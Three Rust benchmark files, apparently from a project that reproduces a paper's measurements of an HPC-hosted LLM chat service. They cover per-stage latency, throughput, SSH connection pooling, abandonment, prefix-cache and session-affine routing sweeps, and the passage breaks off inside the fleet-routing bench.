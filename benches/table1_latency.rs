//! Table 1 reproduction: per-component latency on the user-request path.
//!
//! Paper rows (avg over 50 identical probes, idle system):
//!
//! | Component        | Operation         | Agg. Avg. (std) ms | Diff ms |
//! | ESX Machine      | Probe local proxy | 2.59 (0.56)        | 2.59    |
//! | HPC Service Node | SSH Command       | 13.12 (0.59)       | 10.54   |
//! | HPC Service Node | Probe GPU node    | 18.43 (1.86)       | 5.30    |
//! | HPC GPU Node     | LLM First Token   | 51.06 (2.03)       | 32.63   |
//!
//! Our substrate is loopback TCP instead of a datacenter LAN, so absolute
//! values are smaller; the *shape* to reproduce is the ordering and the
//! "architecture overhead ≈ 23 ms ≪ LLM compute" conclusion (§6.3.1).

use std::time::Duration;

use chat_hpc::scheduler::ServiceSpec;
use chat_hpc::stack::{ChatAiStack, StackConfig};
use chat_hpc::util::bench::{fmt_ms, table_header, table_row, BenchArgs, BenchReport};
use chat_hpc::util::http;
use chat_hpc::util::json::Json;
use chat_hpc::workload::probe_stage;

fn main() -> anyhow::Result<()> {
    // `--smoke`: a tiny CI-sized sweep — fewer probes, same stages, same
    // BENCH_table1.json schema.
    let smoke = BenchArgs::parse().smoke;
    let n: usize = if smoke { 10 } else { 50 }; // full run = paper's sample count

    // Sim profile with realistic per-token pacing scaled so the LLM stage
    // visibly dominates, like the paper's H100 first-token compute.
    let stack = ChatAiStack::start(StackConfig {
        services: vec![ServiceSpec::sim("intel-neural-7b", 0.5)],
        load_time_scale: 0.001,
        keepalive: Duration::from_millis(100),
        with_external: false,
        // Same emulated wire pacing as the Table 2 bench (≈5 ms per SSH
        // exec round), mirroring the paper's measured 10.5 ms SSH leg.
        ssh_link_frame_delay: Duration::from_micros(1700),
        ..Default::default()
    })?;
    stack.wait_ready("intel-neural-7b", Duration::from_secs(20))?;
    let proxy_url = stack.proxy_http.url();

    // Stage 1 — ESX machine probes its local HPC proxy over HTTP.
    let s1 = probe_stage("ESX Machine", "Probe local proxy", n, 0.0, || {
        let r = http::get(&format!("{proxy_url}/health")).unwrap();
        assert_eq!(r.status, 200);
    });

    // Stage 2 — proxy hop + an SSH command round-trip to the service node
    // (the ForceCommand-pinned cloud interface). Cumulative with stage 1,
    // like the paper's "Agg. Avg." column.
    let s2 = probe_stage("HPC Service Node", "SSH Command", n, s1.agg_avg_ms, || {
        let r = http::request("POST", &format!("{proxy_url}/tick"), &[], &[]).unwrap();
        assert_eq!(r.status, 200);
    });

    // Stage 3 — stage 2 + HTTP probe of the GPU-node health endpoint.
    let s3 = probe_stage("HPC Service Node", "Probe GPU node", n, s2.agg_avg_ms, || {
        let r = http::get(&format!("{proxy_url}/probe/intel-neural-7b")).unwrap();
        assert_eq!(r.status, 200);
    });

    // Stage 4 — full path to the LLM's first streamed token.
    let body = Json::obj()
        .set(
            "messages",
            vec![Json::obj().set("role", "user").set("content", "count from 1 to 10")],
        )
        .set("stream", true)
        .set("max_tokens", 4u64)
        .dump();
    let url = format!("{}/v1/m/intel-neural-7b/", stack.gateway_url());
    let auth = format!("Bearer {}", stack.api_key);
    let s4 = probe_stage("HPC GPU Node", "LLM First Token", n, s3.agg_avg_ms, || {
        let mut first_token_seen = false;
        http::request_stream(
            "POST",
            &url,
            &[("authorization", &auth), ("content-type", "application/json")],
            body.as_bytes(),
            |_chunk| {
                first_token_seen = true;
            },
        )
        .unwrap();
        assert!(first_token_seen);
    });

    table_header(
        &format!("Table 1 — Latency measurements from the ESX machine ({n} probes each)"),
        &["Component", "Operation", "Agg. Avg. (std.) in ms", "Diff. in ms"],
    );
    let mut overhead = 0.0;
    for s in [&s1, &s2, &s3, &s4] {
        table_row(&[
            s.component.clone(),
            s.operation.clone(),
            fmt_ms(&s.stats),
            format!("{:.2}", s.diff_ms),
        ]);
    }
    overhead += s1.diff_ms + s2.diff_ms + s3.diff_ms;
    println!(
        "\narchitecture overhead (stages 1-3): {overhead:.2} ms; LLM stage adds {:.2} ms",
        s4.diff_ms
    );
    println!(
        "paper shape check: overhead {} LLM-dominated path -> {}",
        if s4.diff_ms > overhead { "<" } else { ">=" },
        if s4.diff_ms > overhead { "REPRODUCED" } else { "DIVERGED (see EXPERIMENTS.md)" }
    );

    // Machine-readable trajectory: per-stage latency; the sequential probe
    // loop makes 1/mean the honest stage throughput. `ttft_ms` is only
    // meaningful for the LLM stage (its probe IS a first-token wait).
    let mut report = BenchReport::new();
    for (key, s, ttft_ms) in [
        ("probe_local_proxy", &s1, 0.0),
        ("ssh_command", &s2, 0.0),
        ("probe_gpu_node", &s3, 0.0),
        ("llm_first_token", &s4, s4.agg_avg_ms),
    ] {
        report.entry(key, 1.0 / s.stats.mean, s.stats.p50 * 1e3, s.stats.p99 * 1e3, ttft_ms);
    }
    report.write("BENCH_table1.json")?;
    Ok(())
}
