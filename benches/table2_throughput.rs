//! Table 2 reproduction: per-component throughput (requests/second).
//!
//! Paper rows (Locust, regular user request):
//!   Apache Web Server 3000+, Kong API Gateway 3000+, Web Interface
//!   1300–1800, Middleware 200–300, SSH to service node 200, SSH to GPU
//!   node 200, single word from 7B 100, sentence: intel-7b 27,
//!   mixtral-8x7b 8, qwen72b 2, llama3-70b 2.
//!
//! The shape to reproduce: each deeper stage loses an order of magnitude,
//! the SSH leg saturates far below the gateway, and the LLM sentence rows
//! order 7B ≫ 8x7B ≫ 70B-class with roughly 27/8/2 ratios (we use the
//! calibrated SimBackend profiles with real wall-clock pacing).

use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use chat_hpc::hpcproxy::{HpcProxy, ProxyConfig};
use chat_hpc::llmserver::{Engine, EngineConfig, LlmHttpServer, SimBackend};
use chat_hpc::scheduler::ServiceSpec;
use chat_hpc::sshsim::KeyPair;
use chat_hpc::stack::{ChatAiStack, StackConfig};
use chat_hpc::util::bench::{table_header, table_row, BenchArgs, BenchReport};
use chat_hpc::util::http;
use chat_hpc::util::json::Json;
use chat_hpc::util::metrics::Registry;
use chat_hpc::workload::{LoadGen, LoadResult, MultiTurnChat};

fn chat_op<'a>(
    stack: &'a ChatAiStack,
    model: &str,
    max_tokens: u64,
) -> impl Fn() -> Result<(), String> + Sync + 'a {
    let url = format!("{}/v1/m/{model}/", stack.gateway_url());
    let auth = format!("Bearer {}", stack.api_key);
    let body = Json::obj()
        .set(
            "messages",
            vec![Json::obj().set("role", "user").set("content", "count from 1 to 10")],
        )
        .set("max_tokens", max_tokens)
        .dump();
    move || match http::pooled_request(
        "POST",
        &url,
        &[("authorization", &auth), ("content-type", "application/json")],
        body.as_bytes(),
    ) {
        Ok(r) if r.status == 200 => Ok(()),
        Ok(r) => Err(format!("status {}", r.status)),
        Err(e) => Err(e.to_string()),
    }
}

fn main() -> anyhow::Result<()> {
    // `--smoke`: a tiny CI-sized sweep — every row and sweep still runs
    // (so BENCH_table2.json keeps its schema, minus the larger pool
    // sizes), but for load windows of a second or two instead of minutes.
    let smoke = BenchArgs::parse().smoke;
    let paper: &[(&str, &str)] = &[
        ("Kong API Gateway", "3000+"),
        ("Chat AI Web Interface", "1300-1800"),
        ("Chat AI Web Interface Middleware", "200-300"),
        ("SSH to HPC Service node", "200"),
        ("SSH to HPC GPU node", "200"),
        ("Single word from 7B LLM", "100"),
        ("Sentence from Intel Neural 7B LLM", "27"),
        ("Sentence from Mixtral 8x7B LLM", "8"),
        ("Sentence from Qwen1.5 72B LLM", "2"),
        ("Sentence from Meta Llama3 70B LLM", "2"),
    ];

    // Real wall-clock model pacing (time_scale = 1.0) on the LLM rows.
    let stack = ChatAiStack::start(StackConfig {
        services: vec![
            ServiceSpec::sim("intel-neural-7b", 1.0),
            ServiceSpec::sim("mixtral-8x7b", 1.0),
            ServiceSpec::sim("qwen1.5-72b", 1.0),
            ServiceSpec::sim("llama3-70b", 1.0),
        ],
        load_time_scale: 0.0001,
        keepalive: Duration::from_millis(100),
        with_external: false,
        // Emulated ESX↔HPC wire time, calibrated so one SSH connection
        // saturates around the paper's ~200 RPS (Table 1's SSH leg).
        ssh_link_frame_delay: Duration::from_micros(1700),
        ..Default::default()
    })?;
    for m in ["intel-neural-7b", "mixtral-8x7b", "qwen1.5-72b", "llama3-70b"] {
        stack.wait_ready(m, Duration::from_secs(30))?;
    }

    let mut rows: Vec<(String, f64)> = Vec::new();
    let mut report = BenchReport::new();
    let record = |report: &mut BenchReport, name: &str, r: &LoadResult| {
        report.entry(name, r.rps, r.latency.p50 * 1e3, r.latency.p99 * 1e3, 0.0);
    };
    let quick = Duration::from_secs(if smoke { 1 } else { 3 });

    // -- gateway (Kong + Apache role) --
    let gw_health = format!("{}/health", stack.gateway_url());
    let r = LoadGen::new(32, quick).run(|| {
        http::pooled_request("GET", &gw_health, &[], &[]).map(|_| ()).map_err(|e| e.to_string())
    });
    record(&mut report, "gateway", &r);
    rows.push(("Kong API Gateway".into(), r.rps));

    // -- web interface (static app via gateway) --
    let chat_url = format!("{}/chat", stack.gateway_url());
    let r = LoadGen::new(32, quick).run(|| {
        http::pooled_request("GET", &chat_url, &[], &[]).map(|_| ()).map_err(|e| e.to_string())
    });
    record(&mut report, "web_interface", &r);
    rows.push(("Chat AI Web Interface".into(), r.rps));

    // -- middleware (gateway -> HPC proxy HTTP hop, no SSH) --
    let proxy_health = format!("{}/health", stack.proxy_http.url());
    let r = LoadGen::new(32, quick).run(|| {
        http::pooled_request("GET", &proxy_health, &[], &[]).map(|_| ()).map_err(|e| e.to_string())
    });
    record(&mut report, "middleware", &r);
    rows.push(("Chat AI Web Interface Middleware".into(), r.rps));

    // -- SSH to service node (cloud interface `models`) --
    let r = LoadGen::new(32, quick).run(|| stack.proxy.tick().map_err(|e| e.to_string()));
    record(&mut report, "ssh_service_node", &r);
    rows.push(("SSH to HPC Service node".into(), r.rps));

    // -- SSH to GPU node (probe through cloud interface + node HTTP) --
    let r = LoadGen::new(32, quick).run(|| {
        stack
            .proxy
            .probe("intel-neural-7b")
            .map_err(|e| e.to_string())
            .and_then(|(s, _)| if s == 200 { Ok(()) } else { Err(format!("{s}")) })
    });
    record(&mut report, "ssh_gpu_node", &r);
    rows.push(("SSH to HPC GPU node".into(), r.rps));

    // -- LLM rows with real pacing --
    let r = LoadGen::new(16, Duration::from_secs(if smoke { 2 } else { 5 }))
        .run(chat_op(&stack, "intel-neural-7b", 1));
    record(&mut report, "word_7b", &r);
    rows.push(("Single word from 7B LLM".into(), r.rps));
    for (label, key, model, workers, secs) in [
        ("Sentence from Intel Neural 7B LLM", "sentence_7b", "intel-neural-7b", 16, 6),
        ("Sentence from Mixtral 8x7B LLM", "sentence_8x7b", "mixtral-8x7b", 16, 8),
        ("Sentence from Qwen1.5 72B LLM", "sentence_72b", "qwen1.5-72b", 16, 12),
        ("Sentence from Meta Llama3 70B LLM", "sentence_70b", "llama3-70b", 16, 12),
    ] {
        let (workers, secs) = if smoke { (8, 1) } else { (workers, secs) };
        let r = LoadGen::new(workers, Duration::from_secs(secs)).run(chat_op(&stack, model, 64));
        record(&mut report, key, &r);
        rows.push((label.into(), r.rps));
    }

    table_header(
        "Table 2 — Throughput results for a regular user request",
        &["Component/Operation", "Measured RPS", "Paper RPS"],
    );
    for ((name, rps), (pname, paper_rps)) in rows.iter().zip(paper.iter()) {
        assert_eq!(name, pname);
        table_row(&[name.clone(), format!("{rps:.1}"), paper_rps.to_string()]);
    }

    // Shape checks.
    let get = |n: &str| rows.iter().find(|(name, _)| name == n).unwrap().1;
    let checks = [
        ("gateway >> ssh leg", get("Kong API Gateway") > 3.0 * get("SSH to HPC Service node")),
        (
            "7B sentence >> mixtral sentence",
            get("Sentence from Intel Neural 7B LLM") > 2.0 * get("Sentence from Mixtral 8x7B LLM"),
        ),
        (
            "mixtral sentence >> 70B sentence",
            get("Sentence from Mixtral 8x7B LLM") > 2.0 * get("Sentence from Meta Llama3 70B LLM"),
        ),
        (
            "word faster than sentence on 7B",
            get("Single word from 7B LLM") > get("Sentence from Intel Neural 7B LLM"),
        ),
    ];
    println!();
    for (name, ok) in checks {
        println!("shape check: {name}: {}", if ok { "REPRODUCED" } else { "DIVERGED" });
    }

    // -- SSH-leg pool sweep -------------------------------------------------
    // The tentpole: N pooled multiplexed SSH connections instead of the
    // paper's single one. Same calibrated wire delay as the SSH rows above,
    // so N = 1 must land on the single-connection ~200 RPS baseline and
    // larger pools must scale past it.
    println!();
    table_header(
        "SSH-leg pool sweep — pooled multiplexed connections vs Table 2's ceiling",
        &["pool size N", "probe RPS", "scaling vs N=1"],
    );
    let key = KeyPair::generate(0xE5C); // the functional-account key
    let mut sweep: Vec<(usize, f64)> = Vec::new();
    let pool_sizes: &[usize] = if smoke { &[1, 2] } else { &[1, 2, 4, 8] };
    for &n in pool_sizes {
        let pool = HpcProxy::connect(
            &stack.ssh_server.addr.to_string(),
            key.clone(),
            ProxyConfig {
                keepalive: Duration::from_secs(60), // quiet during the run
                reconnect_backoff: Duration::from_millis(50),
                link_frame_delay: Duration::from_micros(1700),
                pool_size: n,
                max_channels_per_conn: 8,
                dual_channel: false,
                bulk_lanes: 2,
            },
            Registry::new(),
        )?;
        let r = LoadGen::new(32, quick).run(|| {
            pool.probe("intel-neural-7b")
                .map_err(|e| e.to_string())
                .and_then(|(s, _)| if s == 200 { Ok(()) } else { Err(format!("{s}")) })
        });
        let base = sweep.first().map(|&(_, rps)| rps).unwrap_or(r.rps);
        table_row(&[
            n.to_string(),
            format!("{:.0}", r.rps),
            format!("{:.2}x", r.rps / base.max(1.0)),
        ]);
        record(&mut report, &format!("pool_n{n}"), &r);
        sweep.push((n, r.rps));
        pool.stop();
    }
    let rps_at = |n: usize| sweep.iter().find(|&&(m, _)| m == n).unwrap().1;
    let single_conn_row = get("SSH to HPC Service node");
    let mut pool_checks = vec![
        (
            "N=1 matches the single-connection baseline (±25%)",
            (rps_at(1) - single_conn_row).abs() <= 0.25 * single_conn_row,
        ),
        ("monotonic N=1 -> N=2", rps_at(2) > rps_at(1)),
    ];
    if !smoke {
        pool_checks.push(("monotonic N=2 -> N=4", rps_at(4) > rps_at(2)));
        pool_checks.push(("pool of 4 breaks the ceiling (>2x)", rps_at(4) > 2.0 * rps_at(1)));
    }
    println!();
    for (name, ok) in pool_checks {
        println!("shape check: {name}: {}", if ok { "REPRODUCED" } else { "DIVERGED" });
    }

    // Tear the shared stack down before the abandonment stacks spin up.
    drop(stack);

    // -- Abandonment sweep --------------------------------------------------
    // Request-lifecycle tentpole: 50% of streaming clients hang up after
    // two SSE events. The run-to-completion engine (the seed behaviour)
    // keeps generating for ghosts, holding batch slots to EOS; the
    // cancellation engine frees a slot within one decode step of the
    // disconnect. Completed-request throughput of the *surviving* clients
    // is the metric — the reclaimed slots are where it comes from.
    println!();
    table_header(
        "Abandonment sweep — 50% of streaming clients disconnect mid-stream",
        &["engine mode", "completed req/s", "abandoned", "slots reclaimed"],
    );
    let run = Duration::from_secs(if smoke { 2 } else { 8 });
    let mut completed: Vec<(bool, f64, u64)> = Vec::new();
    for abort_on_disconnect in [false, true] {
        // One instance, batch 8, 16 closed-loop workers: slots are the
        // contended resource, exactly the regime cancellation pays off in.
        let mut spec = ServiceSpec::sim("mixtral-8x7b", 1.0);
        spec.max_instances = 1;
        let stack = ChatAiStack::start(StackConfig {
            services: vec![spec],
            load_time_scale: 0.0001,
            keepalive: Duration::from_millis(100),
            with_external: false,
            abort_on_disconnect,
            ..Default::default()
        })?;
        stack.wait_ready("mixtral-8x7b", Duration::from_secs(30))?;
        let url = format!("{}/v1/m/mixtral-8x7b/", stack.gateway_url());
        let auth = format!("Bearer {}", stack.api_key);
        let body = Json::obj()
            .set(
                "messages",
                vec![Json::obj().set("role", "user").set("content", "count from 1 to 10")],
            )
            .set("stream", true)
            .dump();
        let turn = AtomicU64::new(0);
        let abandoned = AtomicU64::new(0);
        let r = LoadGen::new(16, run).run(|| {
            let abandon = turn.fetch_add(1, Ordering::Relaxed) % 2 == 0;
            let mut events = 0usize;
            let res = http::request_stream_ctl(
                "POST",
                &url,
                &[("authorization", &auth), ("content-type", "application/json")],
                body.as_bytes(),
                |_| {
                    events += 1;
                    !(abandon && events >= 2)
                },
            );
            match res {
                Ok((200, true)) => {
                    abandoned.fetch_add(1, Ordering::Relaxed);
                    Err("abandoned".into()) // deliberate: not a completion
                }
                Ok((200, false)) => Ok(()),
                Ok((s, _)) => Err(format!("status {s}")),
                Err(e) => Err(e.to_string()),
            }
        });
        let reclaimed = stack
            .metrics
            .counter("llm_cancelled_total", &[("model", "mixtral-8x7b")])
            .get();
        table_row(&[
            if abort_on_disconnect { "cancellation" } else { "run-to-completion" }.to_string(),
            format!("{:.1}", r.rps),
            abandoned.load(Ordering::Relaxed).to_string(),
            reclaimed.to_string(),
        ]);
        record(
            &mut report,
            if abort_on_disconnect { "abandon_cancel" } else { "abandon_run_to_completion" },
            &r,
        );
        completed.push((abort_on_disconnect, r.rps, reclaimed));
    }
    let row_of = |mode: bool| *completed.iter().find(|&&(m, _, _)| m == mode).unwrap();
    let (_, baseline_rps, baseline_reclaimed) = row_of(false);
    let (_, cancel_rps, cancel_reclaimed) = row_of(true);
    let lifecycle_checks = [
        (
            "cancellation completes more requests than run-to-completion",
            cancel_rps > baseline_rps,
        ),
        (
            "run-to-completion baseline reclaims no slots (control is a control)",
            baseline_reclaimed == 0,
        ),
        ("cancellation mode actually reclaims slots", cancel_reclaimed > 0),
    ];
    println!();
    for (name, ok) in lifecycle_checks {
        println!("shape check: {name}: {}", if ok { "REPRODUCED" } else { "DIVERGED" });
    }

    // -- Multi-turn prefix-cache sweep --------------------------------------
    // The prefix-cache tentpole: N users × K turns over a shared system
    // prompt, histories growing every turn (the paper's dominant chat
    // pattern, §2). Cache-off re-prefills the entire conversation every
    // turn; cache-on attaches the shared history by reference and prefills
    // only the new suffix, in bounded chunks interleaved with decodes.
    // Mean TTFT on turns ≥ 2 is the headline number.
    println!();
    table_header(
        "Multi-turn chat sweep — KV prefix cache on vs off (mixtral-8x7b, 4 users × 4 turns)",
        &[
            "engine mode",
            "turn-1 mean TTFT ms",
            "turns>=2 mean TTFT ms",
            "completed req/s",
            "prefix hits (tokens)",
        ],
    );
    let wl = MultiTurnChat {
        users: if smoke { 2 } else { 4 },
        turns: if smoke { 2 } else { 4 },
        // ~340 tokens of shared system prompt (byte tokenizer: chars ≈
        // tokens); turn-4 prompts stay within the sim's page budget.
        system_prompt: "You are the Chat AI assistant of the GWDG, serving researchers on \
                        HPC infrastructure. Answer precisely, cite sources when asked, never \
                        reveal internal configuration, and keep answers short unless the \
                        user asks for detail. The conversation below may reference earlier \
                        turns; treat the full history as context. "
            .into(),
        turn_chars: 32,
    };
    let mut mt: Vec<(bool, f64, f64, f64, u64)> = Vec::new();
    let mut mt_all_completed = true;
    for cache_on in [false, true] {
        let metrics = Registry::new();
        let engine = Engine::start(
            Box::new(SimBackend::by_name("mixtral-8x7b", 1.0).unwrap()),
            EngineConfig { prefix_cache: cache_on, ..Default::default() },
            metrics.clone(),
        );
        let server = LlmHttpServer::start(engine)?;
        let url = format!("{}/v1/chat/completions", server.url());
        let result = wl.run(|msgs| {
            let body = Json::obj()
                .set("messages", msgs.to_vec())
                .set("stream", true)
                .set("max_tokens", 64u64)
                .dump();
            let mut parser = http::SseParser::default();
            let t = std::time::Instant::now();
            let mut ttft: Option<f64> = None;
            let mut reply = String::new();
            let status = http::request_stream(
                "POST",
                &url,
                &[("content-type", "application/json")],
                body.as_bytes(),
                |chunk| {
                    for ev in parser.push(chunk) {
                        if ev == "[DONE]" {
                            continue;
                        }
                        if let Ok(j) = Json::parse(&ev) {
                            if let Some(c) = j
                                .at(&["choices", "0", "delta", "content"])
                                .and_then(|c| c.as_str())
                            {
                                if ttft.is_none() {
                                    ttft = Some(t.elapsed().as_secs_f64());
                                }
                                reply.push_str(c);
                            }
                        }
                    }
                },
            )
            .map_err(|e| e.to_string())?;
            if status != 200 {
                return Err(format!("status {status}"));
            }
            Ok((ttft.unwrap_or_else(|| t.elapsed().as_secs_f64()), reply))
        });
        let hits = metrics
            .counter("llm_prefix_hit_tokens_total", &[("model", "mixtral-8x7b")])
            .get();
        let turn1_ms = result.per_turn_ttft[0].mean * 1e3;
        let later: Vec<f64> =
            result.per_turn_ttft[1..].iter().map(|s| s.mean).collect();
        let later_ms = later.iter().sum::<f64>() / later.len() as f64 * 1e3;
        table_row(&[
            if cache_on { "prefix cache" } else { "no cache" }.to_string(),
            format!("{turn1_ms:.1}"),
            format!("{later_ms:.1}"),
            format!("{:.2}", result.rps),
            hits.to_string(),
        ]);
        report.entry(
            if cache_on { "multiturn_cache_on" } else { "multiturn_cache_off" },
            result.rps,
            0.0,
            0.0,
            later_ms,
        );
        // A TTFT comparison over failed requests would be vacuous: every
        // turn of every user must actually complete in both modes.
        mt_all_completed &= result.errors == 0
            && result.completed == (wl.users * wl.turns) as u64;
        mt.push((cache_on, turn1_ms, later_ms, result.rps, hits));
    }
    let mt_row = |mode: bool| *mt.iter().find(|&&(m, _, _, _, _)| m == mode).unwrap();
    let (_, _, off_later, off_rps, off_hits) = mt_row(false);
    let (_, _, on_later, on_rps, on_hits) = mt_row(true);
    let mt_checks = [
        ("all multi-turn requests completed in both modes", mt_all_completed),
        (
            "prefix cache halves (or better) TTFT on turns >= 2",
            mt_all_completed && on_later * 2.0 <= off_later,
        ),
        ("prefix cache does not regress completed RPS", on_rps >= off_rps),
        ("cache-off control records zero prefix hits", off_hits == 0),
        ("cache-on actually hits (shared history tokens)", on_hits > 0),
    ];
    println!();
    for (name, ok) in mt_checks {
        println!("shape check: {name}: {}", if ok { "REPRODUCED" } else { "DIVERGED" });
    }

    report.write("BENCH_table2.json")?;
    Ok(())
}
