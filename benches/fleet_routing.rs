//! Fleet routing drills: the multi-model acceptance matrix for
//! session-affine routing and scale-from-zero replica groups (DESIGN.md
//! §Multi-model fleet), run entirely under virtual time so every sweep is
//! deterministic — the same `--seed` produces a byte-identical
//! BENCH_fleet.json on every machine.
//!
//! Two sweeps over [`SimStack`] via [`StackBuilder`]:
//!
//!   affinity           N users × K chat turns against a 3-replica group,
//!                      routed session-affine vs. random least-loaded.
//!                      Each turn resends the whole conversation, so the
//!                      replica that served turn t-1 already holds turn
//!                      t's prompt prefix in its KV cache: the affine run
//!                      must land ≥1.5× the prefix-cache hit-token rate
//!                      of the random run.
//!   scale_from_zero    a cold model group idling at zero replicas: the
//!                      first request wakes it and pays exactly one
//!                      modeled weight load; follow-ups inside the
//!                      keep-alive window pay none.
//!
//! Each sweep runs twice and byte-compares its traces (the in-process
//! half of the determinism contract; CI also byte-compares two full
//! BENCH_fleet.json + trace artifacts across processes via
//! `FLEET_TRACE_OUT`), then applies shape checks. Any failed check fails
//! the bench with a nonzero exit after writing the report.
//!
//!   cargo bench --bench fleet_routing [-- --smoke] [-- --seed N]

use std::time::Duration;

use chat_hpc::scheduler::ServiceSpec;
use chat_hpc::stack::{SimRecord, SimRequest, StackBuilder};
use chat_hpc::util::bench::{stats, BenchArgs};
use chat_hpc::util::json::Json;
use chat_hpc::workload::MultiTurnChat;

/// Warm 3-replica group the affinity sweep routes across.
const MODEL: &str = "intel-neural-7b";
/// Scale-from-zero group (35 virtual-second weight load).
const COLD_MODEL: &str = "llama3-8b";

struct RunOut {
    trace: String,
    records: Vec<SimRecord>,
    affinity_hits: u64,
}

fn completed(records: &[SimRecord]) -> Vec<&SimRecord> {
    records
        .iter()
        .filter(|r| r.finish_reason == "stop" || r.finish_reason == "length")
        .collect()
}

/// Prefix-cache hit-token rate: cached prompt tokens / total prompt
/// tokens over completed requests — the fraction of prompt work the KV
/// cache absorbed instead of re-prefilling.
fn hit_token_rate(records: &[SimRecord]) -> f64 {
    let done = completed(records);
    let prompt: usize = done.iter().map(|r| r.prompt_tokens).sum();
    let cached: usize = done.iter().map(|r| r.cached_tokens).sum();
    if prompt == 0 {
        0.0
    } else {
        cached as f64 / prompt as f64
    }
}

struct DrillMetrics {
    rps: f64,
    p50_ms: f64,
    p99_ms: f64,
    ttft_ms: f64,
}

/// Latency/throughput shape of a sweep, from virtual-time numbers only —
/// the wall clock never leaks into the report.
fn metrics(records: &[SimRecord]) -> DrillMetrics {
    let done = completed(records);
    assert!(!done.is_empty(), "sweep completed no requests");
    let lats: Vec<f64> =
        done.iter().map(|r| (r.finish_us - r.submit_us) as f64 / 1e3).collect();
    let ttfts: Vec<f64> =
        done.iter().filter_map(|r| r.ttft_us.map(|t| t as f64 / 1e3)).collect();
    let first = done.iter().map(|r| r.submit_us).min().unwrap();
    let last = done.iter().map(|r| r.finish_us).max().unwrap();
    let window = ((last - first) as f64 / 1e6).max(1e-9);
    let ls = stats(&lats);
    let ts = if ttfts.is_empty() { None } else { Some(stats(&ttfts)) };
    DrillMetrics {
        rps: done.len() as f64 / window,
        p50_ms: ls.p50,
        p99_ms: ls.p99,
        ttft_ms: ts.map(|t| t.p50).unwrap_or(0.0),
    }
}

/// The multi-turn conversation workload: each user's turn t resends the
/// whole conversation (turn t's prompt strictly extends turn t-1's), under
/// one session id per user — the shape session-affine routing exists for.
fn run_affinity(seed: u64, affine: bool, users: usize, turns: usize) -> RunOut {
    let mut spec = ServiceSpec::sim(MODEL, 1.0);
    // Pin the group at 3 replicas so both routing policies face the same
    // fleet; autoscaling churn would confound the comparison.
    spec.min_instances = 3;
    spec.max_instances = 3;
    let stack = StackBuilder::new()
        .with_seed(seed)
        .with_services(vec![spec])
        .with_session_affinity(affine)
        .build_sim();
    let wl = MultiTurnChat {
        users,
        turns,
        system_prompt: "you are the kisski cluster assistant; answer tersely \
                        and cite slurm job ids where relevant"
            .into(),
        turn_chars: 160,
    };
    for user in 0..users {
        for turn in 0..turns {
            // Arrivals start past the 30 s cold start; turns are spaced so
            // turn t-1 has finished (and warmed its replica's cache)
            // before turn t arrives, with users staggered inside a turn.
            let at = 40_000_000
                + turn as u64 * 20_000_000
                + user as u64 * 250_000;
            stack.submit_chat_at(
                at,
                SimRequest {
                    user: format!("user-{user}"),
                    model: MODEL.into(),
                    session: Some(format!("conv-{user}")),
                    prompt: wl.sim_prompt(user, turn),
                    max_tokens: 16,
                    deadline_ms: None,
                },
            );
        }
    }
    assert!(
        stack.run_until_settled(Duration::from_secs(3600)),
        "affinity sweep never settled: {} requests still open",
        stack.open_requests()
    );
    let affinity_hits = stack
        .metrics()
        .counter("sched_affinity_hits_total", &[("service", MODEL)])
        .get();
    RunOut { trace: stack.trace(), records: stack.records(), affinity_hits }
}

/// The scale-from-zero drill: a cold model group (min_instances = 0), one
/// request to wake it, four follow-ups inside the keep-alive window.
fn run_scale_from_zero(seed: u64) -> RunOut {
    let mut cold = ServiceSpec::sim(COLD_MODEL, 1.0);
    cold.min_instances = 0;
    cold.max_instances = 1;
    cold.keep_alive = Duration::from_secs(300);
    let stack = StackBuilder::new()
        .with_seed(seed)
        .with_services(vec![cold])
        // The default 30 s queue budget is shorter than llama3-8b's 35 s
        // weight load: the waker must be allowed to wait the load out.
        .with_queue_timeout(Duration::from_secs(120))
        .build_sim();
    // Request 1 wakes the group at t=10 s (ready ≈ 10 s + tick + 35 s
    // load); 2..5 arrive after it completed, well inside keep-alive.
    for (i, &at) in [10_000_000u64, 70_000_000, 80_000_000, 90_000_000, 100_000_000]
        .iter()
        .enumerate()
    {
        stack.submit_chat_at(
            at,
            SimRequest {
                user: format!("user-{i}"),
                model: COLD_MODEL.into(),
                session: Some("conv-cold".into()),
                max_tokens: 8,
                ..Default::default()
            },
        );
    }
    assert!(
        stack.run_until_settled(Duration::from_secs(1800)),
        "scale-from-zero drill never settled: {} requests still open",
        stack.open_requests()
    );
    let affinity_hits = stack
        .metrics()
        .counter("sched_affinity_hits_total", &[("service", COLD_MODEL)])
        .get();
    RunOut { trace: stack.trace(), records: stack.records(), affinity_hits }
}

fn main() -> anyhow::Result<()> {
    let args = BenchArgs::parse();
    let (smoke, seed) = (args.smoke, args.seed);
    // Smoke shrinks the conversation load, not the drill structure: the
    // affinity comparison and the cold-start accounting both still run.
    let (users, turns) = if smoke { (6, 4) } else { (12, 8) };

    println!(
        "fleet routing: seed {seed}, {users} users x {turns} turns{}\n",
        if smoke { " (smoke)" } else { "" }
    );
    println!(
        "{:<18} {:>8} {:>10} {:>10} {:>10} {:>10} {:>8}",
        "sweep", "rps", "p50 ms", "p99 ms", "ttft ms", "hit rate", "pass"
    );

    let mut fails: Vec<String> = Vec::new();
    let mut traces = String::new();

    // --- affinity: session-affine vs. random least-loaded ----------------
    let affine_a = run_affinity(seed, true, users, turns);
    let affine_b = run_affinity(seed, true, users, turns);
    if affine_a.trace != affine_b.trace {
        fails.push("affine: replay diverged (trace not byte-identical)".into());
    }
    let random_a = run_affinity(seed, false, users, turns);
    let random_b = run_affinity(seed, false, users, turns);
    if random_a.trace != random_b.trace {
        fails.push("random: replay diverged (trace not byte-identical)".into());
    }

    let n = users * turns;
    for (name, out) in [("affine", &affine_a), ("random", &random_a)] {
        let done = completed(&out.records).len();
        if done != n {
            fails.push(format!("{name}: {done}/{n} conversations turns completed"));
        }
    }
    let affine_rate = hit_token_rate(&affine_a.records);
    let random_rate = hit_token_rate(&random_a.records);
    let ratio =
        if random_rate > 0.0 { affine_rate / random_rate } else { f64::INFINITY };
    if affine_rate <= 0.0 {
        fails.push("affine: prefix cache never hit across multi-turn chats".into());
    }
    if ratio < 1.5 {
        fails.push(format!(
            "affine hit-token rate {affine_rate:.3} is only {ratio:.2}x the random \
             baseline {random_rate:.3} (need >= 1.5x)"
        ));
    }
    if affine_a.affinity_hits == 0 {
        fails.push("affine: sched_affinity_hits_total never incremented".into());
    }
    if random_a.affinity_hits != 0 {
        fails.push(format!(
            "random: affinity counter moved ({}) with session_affinity off",
            random_a.affinity_hits
        ));
    }

